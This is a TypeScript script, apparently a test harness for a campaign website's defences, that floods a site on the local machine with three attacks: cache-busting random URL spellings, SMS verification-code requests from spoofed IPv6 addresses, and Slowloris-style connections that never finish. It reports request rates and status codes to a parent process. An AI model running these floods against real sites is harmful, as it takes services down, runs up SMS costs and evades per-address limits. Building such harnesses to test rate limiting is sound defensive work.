import http from 'node:http';
import net from 'node:net';
import { identity } from '#campaign/identity.ts';
import { pages } from '../src/app/pages.ts';

/**
 * `node attacker.ts KIND URL` attacks a site on this machine until its parent process sends a message. It then reports
 * its requests per second and the status codes to the parent and exits.
 */
const [kind = '', site = ''] = process.argv.slice(2);
const { hostname: host, port } = new URL(site);
const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });

const { proposals, news, candidate, elections, team, contact } = pages;
const PAGES = [proposals, news, candidate, elections, team, contact].map(({ path }) => path.slice(1));
const anyOf = <Item>(items: Item[]) => items[Math.floor(Math.random() * items.length)] as Item;
const hex = () => Math.floor(Math.random() * 65_536).toString(16);

/** The kinds of attack, each with a function that sends one request and the number of requests per second. */
const ATTACKS: Record<string, { perSecond: number; once: () => void }> = {
  /** Requests pages under random spellings of their URLs, so that hardly any URL is requested twice. */
  spellings: {
    perSecond: 2_000,
    once: () => {
      const page = [...anyOf(PAGES)]
        .map((letter) => anyOf([letter, letter.toUpperCase(), `%${letter.charCodeAt(0).toString(16)}`]))
        .join('');
      const news = `/noticias/${'0'.repeat(Math.floor(Math.random() * 9))}${Math.floor(Math.random() * 5_000)}`;
      get(anyOf([`/${page}${'/'.repeat(Math.floor(Math.random() * 20))}`, news, `/${page}${hex()}`]));
    },
  },
  /** Requests verification codes, each for a new phone, from random addresses of one IPv6 /48 network. */
  codes: {
    perSecond: 200,
    once: () => {
      const phone = `09${String(Math.floor(Math.random() * 10_000_000)).padStart(7, '0')}`;
      post('/api/verificar-telefono/enviar', { telefono: phone }, `2001:db8:1:${hex()}::${hex()}`);
    },
  },
  /** Opens requests whose headers or body never end. After ten seconds 6,000 of them are open. */
  halves: {
    perSecond: 600,
    once: () => {
      const socket = net.connect(Number(port), host).on('error', () => {});
      const head = `POST /api/contacto HTTP/1.1\r\nhost: ${host}\r\n`;
      socket.write(anyOf([head, `${head}content-type: application/json\r\ncontent-length: 5000\r\n\r\n{`]));
      const drip = setInterval(() => socket.writable && socket.write('a'), 3_000);
      socket.on('close', () => clearInterval(drip));
    },
  },
};

function get(path: string) {
  sent(http.get({ agent, host, port, path }));
}

function post(path: string, body: object, from: string) {
  const headers = {
    'content-type': 'application/json',
    'x-api-key': identity.demoApiKey,
    'x-forwarded-for': from,
  };
  sent(http.request({ agent, host, port, path, method: 'POST', headers })).end(JSON.stringify(body));
}

const statuses: Record<number, number> = {};
function sent(request: http.ClientRequest) {
  return request
    .on('error', () => {})
    .on('response', (response) => {
      statuses[response.statusCode ?? 0] = (statuses[response.statusCode ?? 0] ?? 0) + 1;
      response.resume();
    });
}

const TICK_MS = 10;
const attack = ATTACKS[kind];
if (!attack) throw new Error(`No attack is called ${kind}.`);
const begun = performance.now();
let made = 0;
setInterval(() => {
  const due = ((performance.now() - begun) / 1_000) * attack.perSecond;
  for (; made < due; made++) attack.once();
}, TICK_MS);
process.on('message', () => {
  process.send?.({ perSecond: made / ((performance.now() - begun) / 1_000), statuses });
  process.exit(0);
});
